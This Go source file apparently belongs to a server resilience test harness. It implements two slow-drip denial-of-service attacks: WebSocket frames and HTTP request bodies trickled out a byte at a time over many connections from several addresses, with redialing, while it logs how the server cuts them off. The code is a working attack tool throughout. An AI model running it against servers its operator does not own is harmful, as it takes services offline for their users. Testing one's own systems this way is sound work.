package main

import (
	"bufio"
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// dripSlot is one attacking connection that is sent a byte at a time.
type dripSlot struct {
	conn   atomic.Pointer[net.Conn]
	redial int
}

// dripWorkers writes b to every live slot every interval until ctx ends, over a few
// goroutines. It returns the bytes written.
func dripWorkers(ctx context.Context, slots []*dripSlot, interval time.Duration, b []byte) int64 {
	const workers = 8
	var written atomic.Int64
	var wg sync.WaitGroup
	for w := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			t := time.NewTicker(interval)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				for i := w; i < len(slots); i += workers {
					cp := slots[i].conn.Load()
					if cp == nil {
						continue
					}
					c := *cp
					_ = c.SetWriteDeadline(time.Now().Add(time.Second))
					if _, err := c.Write(b); err == nil {
						written.Add(int64(len(b)))
					}
				}
			}
		}()
	}
	wg.Wait()
	return written.Load()
}

// attackWSDrip is item 5: WebSocket connections each sending the header of a 65,000-byte
// frame and then its payload a byte every 50 ms. A connection the server cuts is opened
// again (up to 3 times), as a determined attacker would.
func attackWSDrip(ctx context.Context, env *attackEnv) error {
	dialers := attackerDialers(env, 0)
	opens, cutHow := newTally(), newTally()
	cuts := newCutLog()
	var live atomic.Int64
	slots := make([]*dripSlot, env.size)
	for i := range slots {
		slots[i] = &dripSlot{}
	}
	hctx, stop := context.WithCancel(ctx)
	defer stop()
	var readers sync.WaitGroup
	// open connects slot i and starts its reader, which redials when the server cuts.
	var open func(i int) bool
	open = func(i int) bool {
		ws, err := dialWS(hctx, dialers[i%len(dialers)], env.host, "/ws", 10*time.Second)
		if err != nil {
			opens.add(errKey(err), 1)
			return false
		}
		hdr, _ := appendFrameHeader(nil, true, opText, 65_000)
		if err := ws.write(hdr); err != nil {
			opens.add("header-"+errKey(err), 1)
			ws.close()
			return false
		}
		opens.add("101", 1)
		live.Add(1)
		slots[i].conn.Store(&ws.c)
		opened := time.Now()
		readers.Add(1)
		go func() {
			defer readers.Done()
			_, err := ws.readMessage()
			slots[i].conn.Store(nil)
			live.Add(-1)
			ws.close()
			if hctx.Err() != nil {
				return
			}
			cuts.add(time.Since(opened))
			var ce *closeError
			if errors.As(err, &ce) {
				cutHow.add("close-"+strconv.Itoa(ce.code), 1)
			} else {
				cutHow.add(errKey(err), 1)
			}
			if slots[i].redial < 3 {
				slots[i].redial++
				open(i)
			}
		}()
		return true
	}
	start := time.Now()
	forEach(hctx, env.size, env.conc, func(i int) { open(i) })
	env.logf("opened: %s in %.1fs; dripping", opens, time.Since(start).Seconds())
	dripCtx, stopDrip := context.WithTimeout(hctx, env.hold)
	defer stopDrip()
	written := dripAndSample(ctx, dripCtx, env, slots, 50*time.Millisecond, &live)
	env.res.add("opens", opens.String())
	env.res.int("live_at_end", live.Load())
	env.res.add("cut", cuts.String())
	env.res.add("cut_how", cutHow.String())
	env.res.int("bytes_dripped", written)
	env.logf("opens %s; live at the end %d; cut by the server %s (%s); %d bytes dripped",
		opens, live.Load(), cuts, cutHow, written)
	stop()
	for _, s := range slots {
		if cp := s.conn.Load(); cp != nil {
			_ = (*cp).Close()
		}
	}
	readers.Wait()
	return nil
}

// attackerDialers is one dialer per attacker address.
func attackerDialers(env *attackEnv, rcvbuf int) []*net.Dialer {
	out := make([]*net.Dialer, len(env.addrs))
	for i, a := range env.addrs {
		out[i] = tcpDialer(a, 5*time.Second, rcvbuf)
	}
	return out
}

// attackHTTPDrip is item 6: HTTP requests whose 1,000-byte body is sent a byte every 5 s, for
// --hold in all; it reports when the server cut them and how.
func attackHTTPDrip(ctx context.Context, env *attackEnv) error {
	dialers := attackerDialers(env, 0)
	opens, cutHow := newTally(), newTally()
	cuts := newCutLog()
	var live atomic.Int64
	slots := make([]*dripSlot, env.size)
	for i := range slots {
		slots[i] = &dripSlot{}
	}
	hctx, stop := context.WithTimeout(ctx, env.hold)
	defer stop()
	var readers sync.WaitGroup
	head := []byte("POST /healthz HTTP/1.1\r\nHost: " + env.host + "\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\nx")
	start := time.Now()
	forEach(hctx, env.size, env.conc, func(i int) {
		c, err := dialers[i%len(dialers)].DialContext(hctx, "tcp4", env.host)
		if err != nil {
			opens.add(errKey(err), 1)
			return
		}
		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write(head); err != nil {
			opens.add("headers-"+errKey(err), 1)
			_ = c.Close()
			return
		}
		opens.add("sending", 1)
		live.Add(1)
		slots[i].conn.Store(&c)
		opened := time.Now()
		readers.Add(1)
		go func() {
			defer readers.Done()
			resp, err := http.ReadResponse(bufio.NewReaderSize(c, 512), nil)
			if err == nil {
				_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
				_ = resp.Body.Close()
			}
			slots[i].conn.Store(nil)
			live.Add(-1)
			_ = c.Close()
			if hctx.Err() != nil {
				return
			}
			cuts.add(time.Since(opened))
			if err == nil {
				cutHow.add("answered-"+strconv.Itoa(resp.StatusCode), 1)
			} else {
				cutHow.add(errKey(err), 1)
			}
		}()
	})
	env.logf("requests: %s in %.1fs; dripping until %s after the start", opens, time.Since(start).Seconds(), env.hold)
	written := dripAndSample(ctx, hctx, env, slots, 5*time.Second, &live)
	cuts.stop()
	env.res.add("opens", opens.String())
	env.res.int("live_at_end", live.Load())
	env.res.add("cut", cuts.String())
	env.res.add("cut_how", cutHow.String())
	env.logf("requests %s; still sending at the end %d; cut by the server %s (%s); %d bytes dripped",
		opens, live.Load(), cuts, cutHow, written)
	for _, s := range slots {
		if cp := s.conn.Load(); cp != nil {
			_ = (*cp).Close()
		}
	}
	readers.Wait()
	return nil
}

// dripAndSample drips a byte into every slot each interval until dripCtx ends, records the
// attack's peak (live connections, the server's sample) two seconds in, and returns the bytes
// written.
func dripAndSample(ctx, dripCtx context.Context, env *attackEnv, slots []*dripSlot, interval time.Duration, live *atomic.Int64) int64 {
	var written int64
	dripped := make(chan struct{})
	go func() {
		defer close(dripped)
		written = dripWorkers(dripCtx, slots, interval, []byte{'x'})
	}()
	_ = sleepCtx(dripCtx, 2*time.Second)
	env.res.int("live_at_peak", live.Load())
	env.peak(ctx)
	<-dripped
	return written
}
